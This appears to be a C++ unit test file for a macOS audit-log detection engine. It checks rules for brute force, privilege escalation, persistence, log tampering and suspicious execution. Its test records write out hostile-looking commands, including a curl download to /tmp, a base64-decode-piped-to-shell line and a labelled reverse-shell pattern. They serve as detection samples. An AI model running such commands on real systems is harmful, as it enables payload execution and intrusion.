#include "Engine/Analysis/Detections.h"
#include "Engine/BSM/UserResolver.h"
#include "support/RecordValue.h"

#include <gtest/gtest.h>

#include <cmath>
#include <limits>
#include <ostream>

using TestRecords::numbered;
using TestRecords::RecordValue;

namespace {

constexpr double t0 = 1700000000;
constexpr uint32_t orvik = 7501;
const std::string attacker = "203.0.113.7";

// Event numbers used below, with their bundled catalogue descriptions.
constexpr uint16_t userAuthentication = 45023; // "user authentication"
constexpr uint16_t openSSHLogin = 32800;       // "OpenSSH login"
constexpr uint16_t localLogin = 6152;          // "login - local"
constexpr uint16_t sudoAuthorised = 45028;     // "sudo(1)", privilege elevation
constexpr uint16_t suLogin = 6159;             // "su(1)", privilege elevation
constexpr uint16_t createUser = 6207;          // "create user"
constexpr uint16_t modifyUser = 6208;          // "modify user"
constexpr uint16_t auditShutdown = 45001;      // "audit shutdown"
constexpr uint16_t auditon = 138;              // "auditon(2)"
constexpr uint16_t settimeofday = 37;
constexpr uint16_t taskForPid = 43048; // "task_for_pid()"
constexpr uint16_t chmodEvent = 10;
constexpr uint16_t execve = 23;
constexpr uint16_t unlinkEvent = 6;   // "unlink(2)", class fd
constexpr uint16_t renameEvent = 42;  // "rename(2)", classes fc,fd
constexpr uint16_t openRead = 72;     // "open(2) - read", class fr
constexpr uint16_t openTruncate = 74; // classes fd,fr,fa,fm
constexpr uint16_t openWrite = 76;    // "open(2) - write", class fw
constexpr uint16_t connectEvent = 32;
constexpr uint16_t sockConnect = 248;

// A finding without its random id, with its time checked separately and its explanation left to
// the one table of explanation texts.
struct Seen {
    std::string rule;
    std::string category;
    Severity severity = Severity::info;
    std::string technique;
    std::string summary;
    std::vector<int64_t> ids;
    std::string user;

    bool operator==(const Seen &) const = default;
};

void PrintTo(const Seen &s, std::ostream *os)
{
    *os << "{" << s.rule << " | " << s.category << " | " << severityTitle(s.severity) << " | " << s.technique << " | "
        << s.summary << " | ids";
    for (int64_t id : s.ids) *os << " " << id;
    *os << " | " << s.user << "}";
}

std::vector<Seen> seen(const std::vector<Finding> &findings)
{
    std::vector<Seen> out;
    for (const Finding &f : findings)
        out.push_back({f.rule, f.category, f.severity, f.technique.value_or("(none)"), f.summary, f.recordIDs, f.user});
    return out;
}

std::vector<std::string> rules(const std::vector<Finding> &findings)
{
    std::vector<std::string> out;
    for (const Finding &f : findings) out.push_back(f.rule);
    return out;
}

// A record by orvik at dt seconds after t0, from the attacker's address.
RecordValue at(uint16_t event, double dt, const std::string &address = attacker)
{
    return std::move(RecordValue(event, t0 + dt).subject(orvik, orvik, 300, address, 4242));
}

class DetectionsTest : public ::testing::Test {
protected:
    static void SetUpTestSuite() { UserResolver::shared().seed(orvik, "orvik"); }

    // Every finding's time is that of its last record, and the list is in time order.
    static void expectTimes(const std::vector<AuditRecord> &records, const std::vector<Finding> &findings)
    {
        for (size_t i = 0; i < findings.size(); ++i) {
            ASSERT_FALSE(findings[i].recordIDs.empty());
            const int64_t last = findings[i].recordIDs.back();
            EXPECT_EQ(findings[i].time, records[size_t(last - 1)].time) << findings[i].rule;
            if (i > 0) {
                EXPECT_LE(findings[i - 1].time, findings[i].time);
            }
        }
    }
};

TEST_F(DetectionsTest, EachRuleFamilyFiresExactlyItsFindings)
{
    struct Case {
        const char *name;
        std::vector<AuditRecord> records;
        std::vector<Seen> expected;
    };
    const Case cases[] = {
        {"five failures in ten minutes are one brute force, naming the sorted targets",
         numbered({at(userAuthentication, 0).failed().text("Authentication for <orvik> failed"),
                   at(userAuthentication, 100).failed().text("Authentication for <admin> failed"),
                   at(userAuthentication, 200).failed().text("no target here"),
                   at(userAuthentication, 300).failed().text("Authentication for <orvik> failed"),
                   RecordValue(userAuthentication, t0 + 400).failed().subject(orvik, 0, 300, attacker)}),
         {{"Password brute force",
           "Credential Access",
           Severity::high,
           "T1110",
           "5+ failed authentications from 203.0.113.7 within 10 minutes (targets: admin, orvik)",
           {1, 2, 3, 4, 5},
           "orvik → root"}}},
        {"a remote login half an hour after a burst is a login after brute force, not a remote login",
         numbered({at(userAuthentication, 0).failed(), at(userAuthentication, 1).failed(),
                   at(userAuthentication, 2).failed(), at(userAuthentication, 3).failed(),
                   at(userAuthentication, 4).failed(), at(openSSHLogin, 1804)}),
         {{"Password brute force",
           "Credential Access",
           Severity::high,
           "T1110",
           "5+ failed authentications from 203.0.113.7 within 10 minutes",
           {1, 2, 3, 4, 5},
           "orvik"},
          {"Login after brute force",
           "Initial Access",
           Severity::critical,
           "T1110",
           "Successful remote login from 203.0.113.7 shortly after a brute-force burst",
           {6},
           "orvik"}}},
        {"a remote login without a burst, and a failed one counted as an authentication failure",
         numbered({at(openSSHLogin, 0), at(openSSHLogin, 10).failed(), at(localLogin, 20)}),
         {{"Remote login",
           "Lateral Movement",
           Severity::medium,
           "T1021.004",
           "Remote login (OpenSSH login) from 203.0.113.7",
           {1},
           "orvik"},
          {"Authentication failure", "Credential Access", Severity::low, "T1110", "OpenSSH login", {2}, "orvik"}}},
        {"privilege elevation, failed or not, summarised by its first text or its description",
         numbered({at(sudoAuthorised, 0).failed().text("3 incorrect password attempts").text("second"),
                   RecordValue(suLogin, t0 + 1).subject(orvik, 0, 301, "0.0.0.0", 4242)}),
         {{"Failed privilege elevation",
           "Privilege Escalation",
           Severity::medium,
           "T1548.003",
           "3 incorrect password attempts",
           {1},
           "orvik"},
          {"Privilege elevation", "Privilege Escalation", Severity::low, "T1548.003", "su(1)", {2}, "orvik → root"}}},
        {"an isolated authentication failure",
         numbered({at(userAuthentication, 0).failed()}),
         {{"Authentication failure", "Credential Access", Severity::low, "T1110", "user authentication", {1}, "orvik"}}},
        {"accounts created or modified when the change succeeded",
         numbered({at(createUser, 0).text("create user <eve>"), at(modifyUser, 1), at(createUser, 2).failed()}),
         {{"Account created", "Persistence", Severity::high, "T1136.001", "create user <eve>", {1}, "orvik"},
          {"Account modified", "Persistence", Severity::high, "T1098", "modify user", {2}, "orvik"}}},
        {"audit shutdown even when failed, and configuration changes graded by outcome",
         numbered({at(auditShutdown, 0).failed(), at(auditon, 1).failed(), at(auditon, 2)}),
         {{"Audit stopped", "Defense Evasion", Severity::low, "T1562", "audit shutdown", {1}, "orvik"},
          {"Audit configuration change", "Defense Evasion", Severity::medium, "T1562", "auditon(2) (failed)", {2}, "orvik"},
          {"Audit configuration change", "Defense Evasion", Severity::high, "T1562", "auditon(2)", {3}, "orvik"}}},
        {"clock changes name the image, else the pid, else pid 0",
         numbered({at(settimeofday, 0).image("/usr/sbin/ntpd"), at(settimeofday, 1), RecordValue(313, t0 + 2),
                   at(settimeofday, 3).failed()}),
         {{"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by ntpd", {1}, "orvik"},
          {"System clock changed",
           "Defense Evasion",
           Severity::medium,
           "T1070.006",
           "settimeofday() by pid 300",
           {2},
           "orvik"},
          {"System clock changed", "Defense Evasion", Severity::medium, "T1070.006", "settimeofday() by pid 0", {3}, "—"}}},
        {"memory access to another process only",
         numbered({at(taskForPid, 0).target(1, 0), at(taskForPid, 1).target(300, 0), at(taskForPid, 2)}),
         {{"Process memory access",
           "Privilege Escalation",
           Severity::medium,
           "T1055",
           "task_for_pid() on pid 1 (root)",
           {1},
           "orvik"}}},
        {"setuid and setgid bits, with the path or a question mark",
         numbered({at(chmodEvent, 0).arg("mode", 04755).path("/tmp/sh").path("/tmp/other"),
                   at(chmodEvent, 1).arg("fd", 3).arg("new mode", 02750), at(chmodEvent, 2).arg("mode", 0755).path("/a"),
                   at(chmodEvent, 3).arg("mode", 0644).arg("mode", 04755).path("/b")}),
         {{"Setuid/setgid bit set", "Privilege Escalation", Severity::high, "T1548.001", "chmod 4755 /tmp/sh", {1}, "orvik"},
          {"Setuid/setgid bit set", "Privilege Escalation", Severity::high, "T1548.001", "chmod 2750 ?", {2}, "orvik"}}},
        {"execution from suspicious locations",
         numbered({at(execve, 0).path("/private/tmp/payload").execArgs({"/private/tmp/payload", "-q", "now"}),
                   at(execve, 1).path("/Users/orvik/.agent"), at(execve, 2).path("/tmp/failed").failed()}),
         {{"Execution from /tmp", "Execution", Severity::high, "T1204.002", "/private/tmp/payload -q now", {1}, "orvik"},
          {"Execution from hidden path", "Execution", Severity::high, "T1564.001", "/Users/orvik/.agent ", {2}, "orvik"}}},
        {"every matching command rule fires, after the location, with the arguments as written",
         numbered({at(execve, 0).path("/tmp/kit/curl").execArgs({"curl", "-o", "/tmp/a", "http://198.51.100.2/x"}),
                   at(execve, 1).path("/bin/sh").execArgs({"sh", "-c", "echo aGk= | BASE64 -D | sh"}),
                   at(execve, 2).path("/usr/bin/whoami")}),
         {{"Execution from /tmp",
           "Execution",
           Severity::high,
           "T1204.002",
           "/tmp/kit/curl -o /tmp/a http://198.51.100.2/x",
           {1},
           "orvik"},
          {"Tool transfer to unusual location",
           "Command and Control",
           Severity::medium,
           "T1105",
           "curl -o /tmp/a http://198.51.100.2/x",
           {1},
           "orvik"},
          {"Encoded payload decoded",
           "Defense Evasion",
           Severity::high,
           "T1140",
           "sh -c echo aGk= | BASE64 -D | sh",
           {2},
           "orvik"},
          {"Download piped to shell",
           "Execution",
           Severity::high,
           "T1059.004",
           "sh -c echo aGk= | BASE64 -D | sh",
           {2},
           "orvik"},
          {"User / host discovery", "Discovery", Severity::info, "T1033", "/usr/bin/whoami", {3}, "orvik"}}},
        {"the command line is lowercased as Unicode text, so a Kelvin sign reads as k",
         numbered({at(execve, 0).path("/usr/bin/python3").execArgs({"python3", "-c", "import SOC\u212AET"})}),
         {{"Reverse shell pattern",
           "Execution",
           Severity::critical,
           "T1059",
           "python3 -c import SOC\u212AET",
           {1},
           "orvik"}}},
        {"log removal, persistence writes and sensitive reads, one finding per record",
         numbered({at(unlinkEvent, 0).path("/var/log/system.log"),
                   at(renameEvent, 1).path("/Users/orvik/.zsh_history").path("/Users/orvik/.zsh_history.bak"),
                   at(openWrite, 2).path("/Users/orvik/notes").path("/Library/LaunchDaemons/x.plist"),
                   at(openRead, 3)
                       .image("/usr/bin/sqlite3")
                       .path("/Library/Application Support/com.apple.TCC/TCC.db")
                       .path("/Users/orvik/Library/Keychains/login.keychain-db")}),
         {{"Log or history removed",
           "Defense Evasion",
           Severity::high,
           "T1070.002",
           "unlink(2): /var/log/system.log",
           {1},
           "orvik"},
          {"Log or history removed",
           "Defense Evasion",
           Severity::high,
           "T1070.003",
           "rename(2): /Users/orvik/.zsh_history",
           {2},
           "orvik"},
          {"Persistence location modified",
           "Persistence",
           Severity::high,
           "T1543.004",
           "open(2) - write: /Library/LaunchDaemons/x.plist",
           {3},
           "orvik"},
          {"Sensitive data access",
           "Credential Access",
           Severity::medium,
           "T1555",
           "open(2) - read: /Library/Application Support/com.apple.TCC/TCC.db",
           {4},
           "orvik"}}},
        {"path rules follow the event's classes and skip system readers",
         numbered({at(unlinkEvent, 0).path("/Users/orvik/Library/LaunchAgents/x.plist"),
                   at(openTruncate, 1).path("/var/log/system.log"),
                   at(openRead, 2)
                       .image("/System/Library/PrivateFrameworks/TCC.framework/tccd")
                       .path("/Library/Application Support/com.apple.TCC/TCC.db"),
                   at(openRead, 3)
                       .image("/System/Library/x")
                       .path("/Users/orvik/Library/Keychains/login.keychain")
                       .path("/Users/orvik/Library/Cookies/c"),
                   at(openWrite, 4).failed().path("/Library/LaunchDaemons/x.plist")}),
         {}},
        {"a system process's sensitive path is passed over, its other paths still count",
         numbered({at(openWrite, 0)
                       .image("/System/Library/x")
                       .path("/Users/orvik/Library/Keychains/login.keychain")
                       .path("/Library/LaunchDaemons/x.plist"),
                   at(unlinkEvent, 1)
                       .image("/System/Library/x")
                       .path("/Users/orvik/Library/Keychains/login.keychain")
                       .path("/var/log/system.log")}),
         {{"Persistence location modified",
           "Persistence",
           Severity::high,
           "T1543.004",
           "open(2) - write: /Library/LaunchDaemons/x.plist",
           {1},
           "orvik"},
          {"Log or history removed",
           "Defense Evasion",
           Severity::high,
           "T1070.002",
           "unlink(2): /var/log/system.log",
           {2},
           "orvik"}}},
        {"network use by a binary in a suspicious location, first socket only",
         numbered({at(connectEvent, 0).image("/Users/Shared/agent").socket("198.51.100.9:443").socket("/tmp/s"),
                   at(sockConnect, 1).image("/tmp/agent").socket("/var/run/x.sock").socket("198.51.100.9:443"),
                   at(connectEvent, 2).image("/usr/bin/curl").socket("198.51.100.9:443"),
                   at(connectEvent, 3).image("/tmp/agent").socket("198.51.100.9:443").failed(),
                   at(connectEvent, 4).image("/tmp/agent")}),
         {{"Network from suspicious binary",
           "Command and Control",
           Severity::high,
           "T1071",
           "agent → 198.51.100.9:443",
           {1},
           "orvik"}}},
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        const auto findings = Detections::run(c.records);
        EXPECT_EQ(seen(findings), c.expected);
        expectTimes(c.records, findings);
    }
}

// Users and groups are created under several event numbers; every other account event is a change.
TEST_F(DetectionsTest, AccountEventsTellCreationsFromOtherChanges)
{
    const std::string created = "Account created", modified = "Account modified";
    const struct {
        uint16_t event;
        const std::string &rule;
    } cases[] = {
        {6207, created},  {45015, created},  {6511, created},   {6208, modified},  {6209, modified},  {6210, modified},
        {6211, modified}, {45014, modified}, {45016, modified}, {45017, modified}, {45018, modified}, {45019, modified},
        {6512, modified}, {6513, modified},  {6514, modified},  {6515, modified},
    };
    for (const auto &c : cases)
        EXPECT_EQ(rules(Detections::run(numbered({at(c.event, 0)}))), std::vector<std::string>{c.rule}) << c.event;
}

TEST_F(DetectionsTest, AnOrdinarySessionFiresNothing)
{
    const auto records = numbered({
        RecordValue(localLogin, t0).subject(orvik, orvik, 200, "0.0.0.0"),
        at(6153, 1),
        at(2, 2).arg("child PID", 301),
        at(execve, 3).path("/usr/bin/git").execArgs({"git", "status"}).image("/usr/bin/git"),
        at(openRead, 4).path("/etc/hosts").image("/usr/bin/git"),
        at(openWrite, 5).path("/Users/orvik/notes.txt"),
        at(unlinkEvent, 6).path("/tmp/scratch"),
        at(chmodEvent, 7).arg("mode", 0644).path("/Users/orvik/notes.txt"),
        at(settimeofday, 8).failed(),
        RecordValue(taskForPid, t0 + 9).subject(orvik, orvik, 300).target(300, orvik),
        at(connectEvent, 10).image("/usr/bin/curl").socket("198.51.100.9:443"),
        at(execve, 11).path("/usr/bin/crontab").execArgs({"crontab", "-l"}),
        at(1, 12),
    });
    EXPECT_TRUE(Detections::run(records).empty());
    EXPECT_TRUE(Detections::run({}).empty());
}

TEST_F(DetectionsTest, BruteForceWindowEdges)
{
    struct Case {
        const char *name;
        std::vector<double> failures; // seconds after t0, all from one origin
        std::vector<std::vector<int64_t>> windows;
        size_t isolatedFailures;
    };
    const Case cases[] = {
        {"four failures are isolated failures", {0, 1, 2, 3}, {}, 4},
        {"five fire at the fifth", {0, 1, 2, 3, 4}, {{1, 2, 3, 4, 5}}, 0},
        {"a sixth inside the window adds nothing", {0, 1, 2, 3, 4, 5}, {{1, 2, 3, 4, 5}}, 0},
        {"five spanning exactly 600 s still fire", {0, 150, 300, 450, 600}, {{1, 2, 3, 4, 5}}, 0},
        {"five spanning 600.5 s do not, nor count as isolated", {0, 150, 300, 450, 600.5}, {}, 0},
        {"five or more spread over hours give nothing at all", {0, 3600, 7200, 10800, 14400, 18000}, {}, 0},
        {"eleven at 100 s steps give one window",
         {0, 100, 200, 300, 400, 500, 600, 700, 800, 900, 1000},
         {{1, 2, 3, 4, 5}},
         0},
        {"twelve at 100 s steps give a second, larger window",
         {0, 100, 200, 300, 400, 500, 600, 700, 800, 900, 1000, 1100},
         {{1, 2, 3, 4, 5}, {6, 7, 8, 9, 10, 11, 12}},
         0},
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        std::vector<AuditRecord> records;
        for (double dt : c.failures) {
            records.push_back(at(userAuthentication, dt).failed());
            records.back().id = int64_t(records.size());
        }
        const auto findings = Detections::run(records);
        std::vector<std::vector<int64_t>> windows;
        size_t isolated = 0;
        for (const Finding &f : findings) {
            if (f.rule == "Password brute force") {
                windows.push_back(f.recordIDs);
                EXPECT_EQ(f.summary, std::to_string(f.recordIDs.size()) + "+ failed authentications from " + attacker
                                         + " within 10 minutes");
            } else {
                EXPECT_EQ(f.rule, "Authentication failure");
                ++isolated;
            }
        }
        EXPECT_EQ(windows, c.windows);
        EXPECT_EQ(isolated, c.isolatedFailures);
        expectTimes(records, findings);
    }
}

TEST_F(DetectionsTest, LoginAfterBurstEdges)
{
    // Five failures end a burst at t0 + 400; then one successful remote login.
    struct Case {
        const char *name;
        double login;
        std::string address;
        const char *rule;
    };
    const Case cases[] = {
        {"at the burst's own time", 400, attacker, "Remote login"},
        {"one second after", 401, attacker, "Login after brute force"},
        {"just under an hour after", 3999.5, attacker, "Login after brute force"},
        {"exactly an hour after", 4000, attacker, "Remote login"},
        {"sixty-one minutes after", 400 + 61 * 60, attacker, "Remote login"},
        {"from another origin", 1000, "198.51.100.1", "Remote login"},
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        const auto records = numbered({at(userAuthentication, 0).failed(), at(userAuthentication, 100).failed(),
                                       at(userAuthentication, 200).failed(), at(userAuthentication, 300).failed(),
                                       at(userAuthentication, 400).failed(), at(openSSHLogin, c.login, c.address)});
        EXPECT_EQ(rules(Detections::run(records)), (std::vector<std::string>{"Password brute force", c.rule}));
    }
}

TEST_F(DetectionsTest, ALoginIsComparedWithTheOriginsLatestBurst)
{
    // The login comes ten minutes after the first burst, but the origin's second burst, reported
    // later in the input yet earlier in phase order, is the one it is measured against.
    std::vector<AuditRecord> records = numbered({
        at(userAuthentication, 0).failed(),
        at(userAuthentication, 1).failed(),
        at(userAuthentication, 2).failed(),
        at(userAuthentication, 3).failed(),
        at(userAuthentication, 4).failed(),
        at(openSSHLogin, 600),
        at(userAuthentication, 5000).failed(),
        at(userAuthentication, 5001).failed(),
        at(userAuthentication, 5002).failed(),
        at(userAuthentication, 5003).failed(),
        at(userAuthentication, 5004).failed(),
        at(openSSHLogin, 5600),
    });
    EXPECT_EQ(rules(Detections::run(records)),
              (std::vector<std::string>{"Password brute force", "Remote login", "Password brute force",
                                        "Login after brute force"}));
}

TEST_F(DetectionsTest, OriginsGroupFailures)
{
    struct Case {
        const char *name;
        std::optional<std::string> address; // nothing: no subject at all
        std::string origin;
    };
    const Case cases[] = {
        {"an unspecified IPv4 address falls back to the session", "0.0.0.0", "session 4242"},
        {"an unspecified IPv6 address falls back to the session", "::", "session 4242"},
        {"an empty address is its own, empty origin", "", ""},
        {"an IPv6 address is kept as it is", "2001:db8::1", "2001:db8::1"},
        {"no subject is unknown", std::nullopt, "unknown"},
    };
    for (const Case &c : cases) {
        SCOPED_TRACE(c.name);
        std::vector<AuditRecord> records;
        for (int i = 0; i < 5; ++i) {
            records.push_back(c.address ? at(userAuthentication, i, *c.address).failed()
                                        : RecordValue(userAuthentication, t0 + i).failed());
            records.back().id = i + 1;
        }
        const auto findings = Detections::run(records);
        ASSERT_EQ(findings.size(), 1u);
        EXPECT_EQ(findings[0].summary, "5+ failed authentications from " + c.origin + " within 10 minutes");
        EXPECT_EQ(findings[0].user, c.address ? "orvik" : "—");
    }
}

TEST_F(DetectionsTest, FailedElevationsCountTowardsTheOriginsBurst)
{
    const auto records = numbered({at(sudoAuthorised, 0, "0.0.0.0").failed(),
                                   at(sudoAuthorised, 60, "0.0.0.0").failed(), at(suLogin, 120, "0.0.0.0").failed(),
                                   at(localLogin, 180, "0.0.0.0").failed(), at(localLogin, 240, "0.0.0.0").failed()});
    const auto findings = Detections::run(records);
    EXPECT_EQ(rules(findings), (std::vector<std::string>{"Failed privilege elevation", "Failed privilege elevation",
                                                         "Failed privilege elevation", "Password brute force"}));
    EXPECT_EQ(findings.back().summary, "5+ failed authentications from session 4242 within 10 minutes");
}

TEST_F(DetectionsTest, FindingsComeInTimeOrderThenCreationOrder)
{
    // Input out of time order; at t0 + 4 the brute force (made before the record pass) comes
    // before the audit shutdown of the same second, which comes first in the input.
    auto records = numbered(
        {at(auditShutdown, 4), at(execve, 9).path("/tmp/x/curl").execArgs({"curl", "-o", "/tmp/y", "http://a"}),
         at(userAuthentication, 0).failed(), at(userAuthentication, 1).failed(), at(userAuthentication, 2).failed(),
         at(userAuthentication, 3).failed(), at(userAuthentication, 4).failed(), at(settimeofday, 2)});
    const auto findings = Detections::run(records);
    EXPECT_EQ(rules(findings), (std::vector<std::string>{"System clock changed", "Password brute force", "Audit stopped",
                                                         "Execution from /tmp", "Tool transfer to unusual location"}));
    for (const Finding &f : findings) EXPECT_FALSE(f.id.isNull());
    EXPECT_NE(findings[0].id, findings[1].id);
}

TEST_F(DetectionsTest, UnusableTimesNeitherCrashNorUnsettleTheOrder)
{
    const double nan = std::numeric_limits<double>::quiet_NaN();
    const double inf = std::numeric_limits<double>::infinity();
    std::vector<AuditRecord> records;
    for (double time : {nan, t0, inf, nan, -inf, t0 + 1, nan}) {
        records.push_back(at(userAuthentication, 0).failed());
        records.back().time = time;
        records.push_back(at(auditShutdown, 0));
        records.back().time = time;
    }
    for (size_t i = 0; i < records.size(); ++i) records[i].id = int64_t(i + 1);
    const auto findings = Detections::run(records);
    ASSERT_FALSE(findings.empty());
    size_t stopped = 0;
    for (size_t i = 0; i < findings.size(); ++i) {
        stopped += findings[i].rule == "Audit stopped";
        if (i > 0 && !std::isnan(findings[i - 1].time) && !std::isnan(findings[i].time)) {
            EXPECT_LE(findings[i - 1].time, findings[i].time);
        }
        if (i > 0 && std::isnan(findings[i - 1].time)) {
            EXPECT_TRUE(std::isnan(findings[i].time)) << "NaN sorts last";
        }
    }
    EXPECT_EQ(stopped, 7u);
}

// A load that is cancelled, superseded or out of memory stops inside the per-record rules, not
// only before them: their loop over a long list asks the thread's interruption as it goes.
TEST(DetectionsCheckpoints, ThePerRecordRulesAskAsTheyGo)
{
    struct Counting final : Parallel::Interruption {
        int checks = 0;
        void check(uint64_t, uint64_t) override { ++checks; }
    } counting;
    std::vector<AuditRecord> records;
    for (int i = 0; i < 10 * 1024; ++i) {
        records.push_back(at(openRead, i).path("/etc/hosts"));
        records.back().id = i + 1;
    }
    {
        const Parallel::InterruptionScope scope(&counting);
        Detections::run(records, Parallel::Pool::single());
    }
    EXPECT_GE(counting.checks, 10);
}

} // namespace
